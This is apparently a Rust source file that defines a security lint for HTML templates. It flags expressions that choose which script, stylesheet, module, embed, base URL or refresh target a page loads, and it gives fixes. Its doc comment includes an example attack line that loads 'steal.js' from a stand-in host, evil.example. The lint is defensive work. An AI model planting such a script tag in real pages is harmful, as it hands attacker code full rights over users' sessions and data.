use crate::lint::page_report::{PageContext, PageReport};
use crate::lint::report::lint;
use crate::page::{AttributeUse, Element, Event, Finding, Output, UrlUse, deciding};

lint! {
    /// # What it does
    ///
    /// Looks for an expression that decides which script, stylesheet, module, object, embedded file or base URL a page loads, or where
    /// `<meta http-equiv="refresh">` leads, and for one in `srcdoc`. After a prefix that fixes scheme and host, such as `/static/`, an
    /// expression is fine, and so is a function that makes the URL of a file: `asset("app.js")`.
    ///
    /// # Why it matters
    ///
    /// A script runs with all rights of the page. A stylesheet runs nothing, but it can cover the page, and read values of attributes by
    /// its selectors. An embedded page of the same origin has the rights of the page, and one of another site can imitate it. The policy
    /// limits which hosts files come from. If it lists one on which anybody can publish files, or has `strict_dynamic` and a nonce, it
    /// does not limit the attacker. A `srcdoc` is decoded once by the browser: what the engine has escaped is markup again.
    ///
    /// # Attack
    ///
    /// The script comes from wherever a parameter of the request says, and has the nonce that makes browsers run it:
    ///
    /// ```html
    /// <script nonce="…" src="https://evil.example/steal.js"></script>
    /// ```
    ///
    /// # Example
    ///
    /// ```html
    /// <script nonce="{{ nonce }}" src="{{ theme_script }}"></script>
    /// ```
    ///
    /// # Fix
    ///
    /// ```html
    /// <script nonce="{{ nonce }}" src="/static/themes/{{ theme }}.js"></script>
    /// ```
    ///
    /// # Allow
    ///
    /// Reasonable where the application chooses the URL from its own list.
    ///
    /// ```html
    /// {# security_policy: allow(template_dynamic_resource_url, reason = "`Theme` is an enum; its URLs are constants") #}
    /// <script nonce="{{ nonce }}" src="{{ theme_script }}"></script>
    /// ```
    ///
    /// # References
    ///
    /// - [OWASP, Cross Site Scripting Prevention](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
    /// - [OWASP, Third Party JavaScript Management](https://cheatsheetseries.owasp.org/cheatsheets/Third_Party_Javascript_Management_Cheat_Sheet.html)
    /// - [HTML, the `srcdoc` attribute](https://html.spec.whatwg.org/multipage/iframe-embed-object.html#attr-iframe-srcdoc)
    Deny "an expression that decides which code is loaded" page,
    cwe [829], asvs ["1.2.2"],
    check
}

fn check(event: &Event<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    let Event::Start(element) = event else { return };
    for (attribute, value, used) in element.uses() {
        match used {
            AttributeUse::Document => {
                for output in value.outputs().filter(|output| !output.is_fixed() && !context.is_nonce(output)) {
                    report.push(document(output, context));
                }
            }
            AttributeUse::Url(used) => {
                let Some(what) = loads(element, used) else { continue };
                let name = attribute.name.constant().unwrap_or_default();
                for (output, _) in deciding(used, value, &Output::is_route) {
                    report.push(resource(output, name, what, used, context));
                }
            }
            _ => {}
        }
    }
}

/// What a URL decides, if it is more than a picture or a link.
fn loads(element: &Element<'_>, used: UrlUse) -> Option<&'static str> {
    match used {
        UrlUse::Script => Some("which script runs"),
        UrlUse::Stylesheet => Some("which stylesheet is loaded"),
        UrlUse::ModulePreload => Some("which module is loaded"),
        UrlUse::Preload if preloads_code(element) => Some("which file is loaded"),
        UrlUse::Base => Some("what every relative URL is relative to"),
        UrlUse::Object | UrlUse::Embed => Some("what is embedded"),
        UrlUse::SvgUse => Some("which SVG becomes part of the page"),
        UrlUse::Refresh => Some("where the page leads"),
        _ => None,
    }
}

/// Whether the `as` of a preload is that of code. It is for an expression.
fn preloads_code(element: &Element<'_>) -> bool {
    let destination = element.attribute("as").and_then(|attribute| attribute.value.as_ref());
    let is_code =
        |name: &str| ["script", "style", "worker", "document"].iter().any(|code| name.eq_ignore_ascii_case(code));
    destination.is_some_and(|value| value.constant().is_none_or(is_code))
}

fn resource(output: &Output, name: &str, what: &str, used: UrlUse, context: &PageContext<'_>) -> Finding {
    let tag = context.shown(output);
    let finding = Finding::new(output.place, format!("`{tag}` decides {what}"));
    match used {
        UrlUse::Refresh => finding
            .help(format!("write a fixed start: `{name}=\"0; url=/path/{tag}\"`"))
            .note("the value leads every visitor of the page to another site"),
        UrlUse::Base => finding
            .help("write the URL out, or remove the element")
            .note("from another base, the scripts with relative URLs come from the attacker"),
        _ => finding
            .help(format!("write a fixed start: `{name}=\"/static/{tag}\"`, or the whole URL"))
            .note(consequence(used)),
    }
}

/// What a file from an attacker can do.
fn consequence(used: UrlUse) -> &'static str {
    match used {
        UrlUse::Stylesheet => {
            "a stylesheet can cover the page with other text, and send the values of attributes to another site with `url(…)`"
        }
        UrlUse::Object | UrlUse::Embed => {
            "an embedded page of another site can imitate this one, and one of the same origin, such as an upload, has all its rights"
        }
        UrlUse::SvgUse => {
            "an SVG of the same origin, such as an upload, becomes part of the page, with its links and its text"
        }
        UrlUse::ModulePreload => {
            "browsers load the module for scripts of the page, in which it has all rights of the page"
        }
        UrlUse::Preload => "browsers request the file from wherever the value says, for use in the page",
        _ => "the file runs with all rights of the page",
    }
}

fn document(output: &Output, context: &PageContext<'_>) -> Finding {
    Finding::new(output.place, format!("`{}` becomes a page of its own", context.shown(output)))
        .help("serve the page from a URL of its own, and write `src` with `sandbox`")
        .note("browsers decode the attribute and read it as HTML: escaping once leaves every tag in the value")
}
